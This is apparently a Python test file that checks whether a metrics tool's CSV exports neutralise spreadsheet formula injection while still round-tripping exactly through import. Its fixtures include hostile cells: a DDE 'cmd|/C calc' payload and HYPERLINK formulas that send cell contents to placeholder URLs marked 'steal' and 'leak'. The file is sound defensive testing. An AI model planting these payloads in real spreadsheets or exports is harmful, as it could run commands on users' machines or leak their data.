"""Formula injection (issue 12, finding 11): every CSV a person may open in a
spreadsheet neutralises cells a spreadsheet would run, and `export` still
round-trips exactly through `import`.

The rule (metrics/contract/csvsafe.py): a cell beginning with = + - @ tab or carriage
return gets a leading apostrophe, as OWASP advises; so does a cell beginning
with an apostrophe, so that the importer can undo exactly what the exporter
did. Plain numbers (-1.5, +3, 2e-5) are not formulas and are left as numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
import pyarrow as pa
import pytest
from conftest import BASE_FILES, write_files
from hypothesis import given, settings
from hypothesis import strategies as st

from metrics import store
from metrics.contract.export import export_csv
from metrics.contract.importer import import_paths, import_sheets
from metrics.contract.readers import sheet_from_records

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


def read_csv_bytes(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


# --- the rule -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell,expected",
    [
        ("=HYPERLINK(\"http://example.com\",\"click\")", "'=HYPERLINK(\"http://example.com\",\"click\")"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("--1", "'--1"),
        ("-1.5.5", "'-1.5.5"),
        ("'already quoted", "''already quoted"),
        ("'=1+1", "''=1+1"),
        ("Ashby", "Ashby"),
        ("a=b", "a=b"),
        (" =1+1", " =1+1"),
        ("", ""),
    ],
)
def test_cells_a_spreadsheet_would_run_get_a_leading_apostrophe(cell, expected):
    from metrics.contract.csvsafe import excel_safe

    assert excel_safe(cell) == expected


@pytest.mark.parametrize("number", ["-1.5", "+3", "-0", "93.25", "-2e-05", "+.5", "-7.", "1E+20"])
def test_plain_numbers_stay_numbers(number):
    from metrics.contract.csvsafe import excel_safe

    assert excel_safe(number) == number


def _oracle_safe(text: str) -> str:
    """A second, simpler statement of the rule, for the properties below."""
    import re

    number = re.fullmatch(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?", text)
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r", "'") and not number else text


CELLS = st.one_of(
    st.text(),
    st.tuples(st.sampled_from([*TRIGGERS, "'", "''", "'-", "'="]), st.text()).map("".join),
    st.floats(allow_nan=False, allow_infinity=False).map(repr),
)


@settings(max_examples=500)
@given(CELLS)
def test_the_escape_is_undone_exactly(text):
    from metrics.contract.csvsafe import excel_safe, undo_excel_safe

    safe = excel_safe(text)
    assert safe == _oracle_safe(text)
    assert undo_excel_safe(safe) == text
    if safe[:1] in TRIGGERS:
        assert float(safe) == float(text), "only a plain number may begin with a formula character"


@settings(max_examples=300)
@given(st.lists(st.text(), max_size=4), st.lists(st.text(), max_size=4))
def test_different_cells_stay_different(a, b):
    """Injective: two texts never neutralise to the same cell (so nothing is lost)."""
    from metrics.contract.csvsafe import excel_safe

    for x in a:
        for y in b:
            assert (excel_safe(x) == excel_safe(y)) == (x == y)


@settings(max_examples=200)
@given(st.lists(CELLS, max_size=30))
def test_the_column_undo_agrees_with_the_cell_undo(cells):
    from metrics.contract.csvsafe import undo_excel_safe, undo_excel_safe_array

    arr = pa.chunked_array([pa.array(cells[:7], type=pa.string()), pa.array(cells[7:], type=pa.string())])
    assert undo_excel_safe_array(arr).to_pylist() == [undo_excel_safe(c) for c in cells]


# --- export and import --------------------------------------------------------------------

HOSTILE_TEXTS = [
    "=HYPERLINK(\"http://example.com/steal?\"&A1,\"Click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 7700 900123",
    "-5 degrees outside",
    "'quoted by hand",
    "'=already neutral",
    "\tIndented",
    "Plain words",
]


def _seed_hostile_notes(con) -> None:
    records = [
        {"note_id": f"h{i}", "recorded_on": dt.date(2024, 10, 20), "partnership_id": "shire-board", "domain": "safety",
         "voice": "resident", "text": text, "source": text, "consent": "none"}
        for i, text in enumerate(HOSTILE_TEXTS)
    ]
    result = import_sheets(con, [sheet_from_records("notes", records, file="notes form")], ["notes form"])
    assert result.ok, result.problems


def test_export_neutralises_formulas(seeded_db, tmp_path):
    _seed_hostile_notes(seeded_db)
    export_csv(seeded_db, tmp_path / "out")
    rows = read_csv_bytes((tmp_path / "out" / "notes.csv").read_bytes())
    header = rows[0]
    texts = {r[header.index("note_id")]: r[header.index("text")] for r in rows[1:]}
    assert HOSTILE_TEXTS and len(rows) > len(HOSTILE_TEXTS)
    for i, text in enumerate(HOSTILE_TEXTS):
        assert texts[f"h{i}"] == _oracle_safe(text)
    for r in rows:
        for cell in r:
            assert cell[:1] not in TRIGGERS or _is_number(cell), f"unsafe cell in the export: {cell!r}"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_export_then_import_gives_back_the_same_data(seeded_db, tmp_path):
    _seed_hostile_notes(seeded_db)
    export_csv(seeded_db, tmp_path / "first")
    con = store.connect(tmp_path / "again.duckdb")
    try:
        result = import_paths(con, sorted((tmp_path / "first").glob("*.csv")))
        assert result.ok, [str(p) for p in result.problems]
        for table in ("notes", "places", "measures", "partnerships", "goals", "observations", "actions"):
            cols = "* EXCLUDE (recorded_at, superseded_at, batch_id, change_reason)"
            got = sorted(con.execute(f"SELECT {cols} FROM {table} WHERE superseded_at IS NULL").fetchall(), key=repr)
            want = sorted(seeded_db.execute(f"SELECT {cols} FROM {table} WHERE superseded_at IS NULL").fetchall(), key=repr)
            assert got == want, table
        export_csv(con, tmp_path / "second")
    finally:
        con.close()
    for path in sorted((tmp_path / "first").glob("*.csv")):
        assert path.read_bytes() == (tmp_path / "second" / path.name).read_bytes(), path.name


@settings(max_examples=15, deadline=None)
@given(st.lists(st.text(min_size=1).filter(str.strip), min_size=1, max_size=4))
def test_any_note_text_round_trips_through_export_and_import(tmp_path_factory, texts):
    root = tmp_path_factory.mktemp("rt")
    con = store.connect(root / "a.duckdb")
    other = store.connect(root / "b.duckdb")
    try:
        assert import_paths(con, write_files(root / "base", BASE_FILES)).ok
        records = [{"note_id": f"t{i}", "recorded_on": dt.date(2024, 10, 20), "partnership_id": "shire-board", "domain": "safety",
                    "voice": "resident", "text": t, "consent": "none"} for i, t in enumerate(texts)]
        if not import_sheets(con, [sheet_from_records("notes", records)], ["form"]).ok:
            return  # text the import rules refuse (control characters): nothing to round-trip
        export_csv(con, root / "out")
        assert import_paths(other, sorted((root / "out").glob("*.csv"))).ok
        assert other.execute("SELECT text FROM notes WHERE note_id LIKE 't%' ORDER BY note_id").fetchall() == [(t,) for t in texts]
    finally:
        con.close()
        other.close()


def test_a_file_with_a_hand_typed_apostrophe_keeps_it(seeded_db, tmp_path):
    """An apostrophe that is not the export's escape is the steward's own text."""
    head = "note_id,recorded_on,partnership_id,domain,voice,text,consent"
    (path,) = write_files(tmp_path, {"notes.csv": f"{head}\nn7,2024-10-20,shire-board,safety,resident,'tis the season,none\nn8,2024-10-20,shire-board,safety,resident,'=1+1,none\n"})
    assert import_paths(seeded_db, [path]).ok
    got = dict(seeded_db.execute("SELECT note_id, text FROM notes WHERE note_id IN ('n7', 'n8')").fetchall())
    assert got == {"n7": "'tis the season", "n8": "=1+1"}


# --- the other CSVs people download -------------------------------------------------------


def test_a_download_under_a_table_neutralises_formulas(monkeypatch):
    from app_pages.common import ui, widgets

    captured = {}
    monkeypatch.setattr(widgets.st, "download_button", lambda label, data, **kw: captured.update(data=data, **kw))
    frame = pd.DataFrame({"place": ["=HYPERLINK(\"http://x\")", "Ashby", "'quoted"], "value": [-1.5, 2.0, None], "=col": ["@a", "b", "-c"]})
    ui.download_csv(frame, "Download", "figures.csv", key="k")
    rows = read_csv_bytes(captured["data"])
    assert rows == [
        ["place", "value", "'=col"],
        ["'=HYPERLINK(\"http://x\")", "-1.5", "'@a"],
        ["Ashby", "2.0", "b"],
        ["''quoted", "", "'-c"],
    ]
    assert captured["mime"] == "text/csv"


def test_published_figures_neutralise_formulas_and_keep_one_row_per_figure(seeded_db, tmp_path):
    """published_figures.csv is opened in spreadsheets: a place named like a
    formula is neutralised, and a carriage return in a name does not split
    its row (Python's csv writer leaves a lone CR unquoted)."""
    from metrics.outputs.publish import publish

    places = BASE_FILES["places.csv"].replace("North End", '"=HYPERLINK(""http://x"",""y"")"').replace("South End", '"South\rEnd"')
    assert import_paths(seeded_db, write_files(tmp_path / "names", {"places.csv": places})).ok
    publish(seeded_db, tmp_path / "site")
    text = (tmp_path / "site" / "published_figures.csv").read_bytes().decode("utf-8")  # no newline translation
    rows = list(csv.reader(io.StringIO(text, newline="")))
    names = {r[4] for r in rows[1:]}
    stored = seeded_db.execute("SELECT name FROM places WHERE place_id = 'south' AND superseded_at IS NULL").fetchall()[0][0]
    assert "'=HYPERLINK(\"http://x\",\"y\")" in names and stored == "South\rEnd" and stored in names
    assert all(len(r) == len(rows[0]) for r in rows)


def test_frame_bytes_are_utf8_csv_with_every_string_cell_neutralised():
    from metrics.contract.csvsafe import frame_csv_bytes

    frame = pd.DataFrame({"a": ["=1", "é"], "b": [1, -2], "c": pd.array(["+x", None], dtype="string")})
    assert read_csv_bytes(frame_csv_bytes(frame)) == [["a", "b", "c"], ["'=1", "1", "'+x"], ["é", "-2", ""]]


def test_the_audit_trail_download_neutralises_a_formula_in_who_or_why(fresh_db, tmp_path):
    """The audit trail's download (app_pages/internal/audit.py: access.audit_log
    through widgets.download_csv's frame_csv_bytes): a reason or an identity
    that begins like a formula opens as text in a spreadsheet."""
    from metrics.access import audit_log
    from metrics.contract.csvsafe import frame_csv_bytes

    reason = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")'
    result = import_paths(fresh_db, write_files(tmp_path / "base", BASE_FILES), actor="@SUM(1+1)", reason=reason)
    assert result.ok, [str(p) for p in result.problems]
    rows = list(csv.reader(io.StringIO(frame_csv_bytes(audit_log(fresh_db)).decode("utf-8"))))
    cells = [c for r in rows[1:] for c in r]
    assert "'" + reason in cells and "'@SUM(1+1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]
